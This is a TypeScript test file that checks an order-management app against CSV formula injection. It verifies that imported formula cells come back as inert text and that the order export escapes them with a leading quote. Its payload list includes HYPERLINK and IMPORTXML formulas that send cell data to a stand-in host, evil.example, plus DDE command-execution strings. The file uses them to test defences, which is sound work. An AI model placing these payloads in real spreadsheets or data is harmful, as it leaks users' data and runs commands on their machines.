import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { marketOrders } from '../src/db/schema/orders.ts';
import { buildTestApp, type TestContext } from '../test/build-test-app.ts';
import { createUser, loginAs } from '../test/factories.ts';
import { insertWorkspace } from '../test/kits/members.ts';
import { sampleOrderRow } from '../test/kits/orders.ts';
import { multipartFile } from '../test/kits/source-parser.ts';

/**
 * CSV formula injection matters where an app writes CSV that a spreadsheet opens: a cell starting with = + - @ (or a
 * tab/CR before one) runs as a formula. Ollida reads CSV (supplier URLs, tracking numbers) and writes one export, the
 * order list, whose text comes from buyers and marketplaces: every such cell is neutralised with a leading quote.
 */

let ctx: TestContext;
let token: string;

beforeAll(async () => {
  ctx = await buildTestApp();
  token = await loginAs(ctx, (await createUser(ctx)).id);
});
afterAll(() => ctx.close());

const formulas = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"쿠폰 받기")',
  "+cmd|'/c calc'!A0",
  '@SUM(1)',
  '-1+1',
  '=1+1',
  '\t=1+1',
  "=cmd|' /C notepad'!'A1'",
  '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
];

const csvCell = (value: string) => `"${value.replaceAll('"', '""')}"`;

describe('CSV formula payloads', () => {
  it('reads formula cells back as inert JSON text, unchanged, never as CSV', async () => {
    const rows = formulas.map((formula, index) => [formula, `https://shop.example/p/${index}`]);
    const csv = ['상품명,URL', ...rows.map((row) => row.map(csvCell).join(','))].join('\r\n');
    const form = multipartFile('formulas.csv', Buffer.from(csv));
    const response = await ctx.app.inject({
      method: 'POST',
      url: '/api/parse-csv',
      headers: { ...form.headers, authorization: `Bearer ${token}` },
      payload: form.payload,
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toMatch(/^application\/json/);
    // Cells are trimmed (so the tab before "=1+1" goes) but otherwise kept: the import neither runs nor rewrites them.
    expect(response.json()).toEqual({
      headers: ['상품명', 'URL'],
      rows: rows.map(([formula, url]) => [formula?.trim(), url]),
    });
  });

  it('has two CSV imports and one export, the order list, and nothing else', () => {
    const routes = ctx.app.printRoutes({ commonPrefix: false });
    const csvLike = routes.split('\n').filter((line) => /csv|xlsx|export/i.test(line));
    // The printed tree splits paths where they share a prefix: `/api/orders/dispatch-csv` and `…/export.csv`.
    expect(csvLike.map((line) => line.replace(/[│├└─\s]+/g, ' ').trim()).sort()).toEqual([
      '-csv (POST)',
      '/api/parse-csv (POST)',
      '/export.csv (GET, HEAD)',
    ]);
  });

  it('writes a buyer or product text that looks like a formula into the order export as inert text', async () => {
    const seller = await createUser(ctx);
    const store = await insertWorkspace(ctx, seller.id);
    await ctx.database.db.insert(marketOrders).values(
      formulas.map((formula, index) => ({
        ...sampleOrderRow(store.id, ctx.clock.now),
        marketKey: `60000000000000${index}`,
        buyerName: formula,
        productName: formula,
      })),
    );
    const response = await ctx.app.inject({
      method: 'GET',
      url: `/api/orders/export.csv?workspace_id=${store.id}`,
      headers: { authorization: `Bearer ${await loginAs(ctx, seller.id)}` },
    });
    expect(response.statusCode, response.body).toBe(200);
    const cells = response.body.split(/\r\n/).slice(1).join(',');
    for (const formula of formulas) {
      expect(cells).not.toMatch(new RegExp(`(^|,)"?${formula.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
    }
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""쿠폰 받기"")"`);
  });
});
